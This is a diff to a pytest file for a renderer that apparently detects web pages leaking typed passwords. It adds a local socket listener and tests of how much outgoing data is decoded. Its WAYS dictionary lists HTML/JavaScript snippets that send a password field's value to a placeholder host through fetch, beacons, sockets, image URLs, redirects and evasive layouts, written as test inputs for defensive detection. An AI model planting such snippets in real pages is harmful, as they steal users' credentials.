@@ -2,19 +2,20 @@
 
 from __future__ import annotations
 
-import asyncio
 from base64 import b64encode
 from collections.abc import Callable, Generator
-from hashlib import sha1
+from urllib.parse import unquote_to_bytes
 
 import pytest
 
 from marketplace.prototypes.fetching.fetch import Guard
+from marketplace.prototypes.rendering import rehearsal
 from marketplace.prototypes.rendering.rehearsal import shapes
 from marketplace.prototypes.rendering.renderer import Renderer
 from marketplace.prototypes.rendering.view import View
 from tests.render.conftest import QUICK, Look, Pages, Studio
 from tests.support.sites import Site, answer, site
+from tests.support.sockets import listening
 from tests.unit.prototypes.conftest import no_names
 
 pytestmark = pytest.mark.browser
@@ -27,6 +28,9 @@ def on_submit(script: str, form: str = FORM) -> str:
     return f"{form}<script>f.onsubmit = (event) => {{ event.preventDefault(); {script} }}</script>"
 
 
+CHAT = "new WebSocket('THERE/?'.replace('http', 'ws') + Math.random())"
+HELLO = "/?0."
+"""How its handshake begins, which may get through as long as no password was typed."""
 WAYS = {
     "the form's own address": "<form method=post action=THERE/take><input name=p type=password></form>",
     "a form in a new window": "<form method=post action=THERE/take target=_blank><input name=p type=password></form>",
@@ -41,11 +45,15 @@ WAYS = {
     "XMLHttpRequest": on_submit("let x = new XMLHttpRequest(); x.open('POST', 'THERE/take'); x.send(new FormData(f))"),
     "a beacon": on_submit("navigator.sendBeacon('THERE/take', p.value)"),
     "a blob": on_submit("navigator.sendBeacon('THERE/take', new Blob([p.value]))"),
+    "a field on wide windows only": "<style>@media (width < 500px) { form { display: none } }</style>"
+    "<form method=post action=THERE/take><input name=p type=password></form>",
+    "a socket that holds it in its address": f"<script>addEventListener('focusin', () => {CHAT})</script>"
+    + on_submit("new WebSocket('THERE/?'.replace('http', 'ws') + p.value)"),
     "a picture": on_submit("new Image().src = 'THERE/take?' + [...p.value].reverse().join('')"),
     "another page": on_submit("location = 'THERE/take?p=' + p.value"),
     "a socket": on_submit("new WebSocket('THERE/take'.replace('http', 'ws')).onopen = (e) => e.target.send(p.value)"),
     "a worker": "<script>w = new Worker('/worker.js')</script>" + on_submit("w.postMessage('THERE/take?p=' + p.value)"),
-    "each key": f"{FORM}<script>p.oninput = () => fetch('THERE/take?' + p.value)</script>",
+    "each key": on_submit("") + "<script>p.oninput = () => fetch('THERE/take?' + p.value)</script>",
     "a hand's press alone": "<input id=p type=password><div role=button id=b>Sign in</div><script>"
     "b.onclick = (event) => event.isTrusted && fetch('THERE/take?' + p.value)</script>",
     "a press on what is covered": "<div style='position: fixed; inset: 0'></div><input id=p type=password>"
@@ -59,6 +67,8 @@ WAYS = {
 HARMLESS = {
     "no password": "<form method=post action=THERE/take><input type=email name=p><button>Subscribe</button></form>",
     "a counter": on_submit("navigator.sendBeacon('THERE/take', 'form_submit')"),
+    "a chat that opens at the first key": f"<script>addEventListener('keydown', () => {CHAT})</script>{FORM}",
+    "a chat that opens at the first focus": f"<script>addEventListener('focusin', () => {CHAT})</script>{FORM}",
     "nothing happens": on_submit(""),
     "nothing to press": "<input type=password>",
     "a password that isn't to be typed in": "<form action=THERE/take><input type=password disabled></form>",
@@ -79,8 +89,19 @@ def collector() -> Generator[Site]:
 
 
 @pytest.fixture(scope="module")
-def renderer(studio: Studio, stage: tuple[Site, Pages], collector: Site) -> Generator[Renderer]:
-    renderer = Renderer(Guard(frozenset({stage[0].place, collector.place}), no_names), QUICK)
+def listener(studio: Studio) -> Generator[tuple[str, list[bytes]]]:
+    """A server that takes sockets: its place, and what arrived there."""
+    arrived: list[bytes] = []
+    server = studio.run(listening(arrived))
+    yield f"127.0.0.1:{server.sockets[0].getsockname()[1]}", arrived
+    server.close()
+
+
+@pytest.fixture(scope="module")
+def renderer(
+    studio: Studio, stage: tuple[Site, Pages], collector: Site, listener: tuple[str, list[bytes]]
+) -> Generator[Renderer]:
+    renderer = Renderer(Guard(frozenset({stage[0].place, collector.place, listener[0]}), no_names), QUICK)
     yield renderer
     studio.run(renderer.__aexit__(None, None, None))
 
@@ -100,7 +121,7 @@ def test_where_a_password_would_go_is_told_and_nobody_gets_it(
 ) -> None:
     view = visit(page)
     assert [place.partition("://")[2] for place in view.rendering.sent_to] == [collector.place]
-    assert collector.requests == []
+    assert [request for request in collector.requests if not request.target.startswith(HELLO)] == []
 
 
 @pytest.mark.parametrize("page", HARMLESS.values(), ids=HARMLESS)
@@ -111,39 +132,39 @@ def test_a_page_that_sends_no_password_is_seen_as_it_was_before(
     assert {f"{place}/" for place in view.rendering.sent_to} <= {stage[0].url}
     assert (view.rendering.is_measured, view.rendering.attempts, view.rendering.console_errors) == (True, (), ())
     assert set(view.pictures) == {"wide", "phone"}
-    assert collector.requests == []
+    assert [request for request in collector.requests if not request.target.startswith(HELLO)] == []
 
 
 def test_a_socket_that_was_open_all_the_time_is_heard_and_hushed(
-    look: Look, studio: Studio, stage: tuple[Site, Pages]
+    visit: Callable[[str], View], listener: tuple[str, list[bytes]]
 ) -> None:
-    arrived: list[bytes] = []
-
-    async def listen(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
-        head = await reader.readuntil(b"\r\n\r\n")
-        key = head.lower().partition(b"sec-websocket-key: ")[2]
-        key = head[len(head) - len(key) :].partition(b"\r\n")[0]
-        accept = b64encode(sha1(key + b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11", usedforsecurity=False).digest())
-        writer.write(b"HTTP/1.1 101 Switching\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n")
-        writer.write(b"Sec-WebSocket-Accept: " + accept + b"\r\n\r\n")
-        while data := await reader.read(1000):
-            arrived.append(data)
-        writer.close()
-
-    async def serve() -> asyncio.Server:
-        return await asyncio.start_server(listen, "127.0.0.1", 0)
-
-    server = studio.run(serve())
-    place = f"127.0.0.1:{server.sockets[0].getsockname()[1]}"
-    renderer = Renderer(Guard(frozenset({stage[0].place, place}), no_names), QUICK)
-    try:
-        page = f"<script>s = new WebSocket('ws://{place}/'); s.onopen = () => s.send('Hello')</script>"
-        view = look(page + on_submit("s.send(p.value)"), renderer=renderer)
-    finally:
-        studio.run(renderer.__aexit__(None, None, None))
-        server.close()
-    assert view.rendering.sent_to == (f"ws://{place}",)
+    place, arrived = listener
+    arrived.clear()
+    page = f"<script>s = new WebSocket('ws://{place}/'); s.onopen = () => s.send('Hello')</script>"
+    assert visit(page + on_submit("s.send(p.value)")).rendering.sent_to == (f"ws://{place}",)
     assert len(arrived) == 1, "the page's own greeting, and nothing since"
+
+
+def test_of_what_a_page_says_only_a_piece_is_taken_apart_and_nothing_before_a_password_is_typed(
+    visit: Callable[[str], View],
+    listener: tuple[str, list[bytes]],
+    collector: Site,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    apart: list[int] = []
+
+    def measured(said: bytes) -> bytes:
+        apart.append(len(said))
+        return unquote_to_bytes(said)
+
+    monkeypatch.setattr(rehearsal, "unquote_to_bytes", measured)
+    place, _ = listener
+    early = f"<script>s = new WebSocket('ws://{place}/'); s.onopen = () => s.send('%41'.repeat(1e6))</script>"
+    visit(early + FORM.replace("<button>", "<button hidden>"))
+    assert sum(apart) < 1_000
+    late = on_submit("fetch('THERE/take', {method: 'POST', body: p.value + '%41'.repeat(1e6)})")
+    assert visit(late).rendering.sent_to == (collector.url[:-1],)
+    assert max(apart) == rehearsal.MAX_SAID
 
 
 @pytest.mark.parametrize("before", ["", "a", "ab", "abc", '{"user":"x","p":"'])
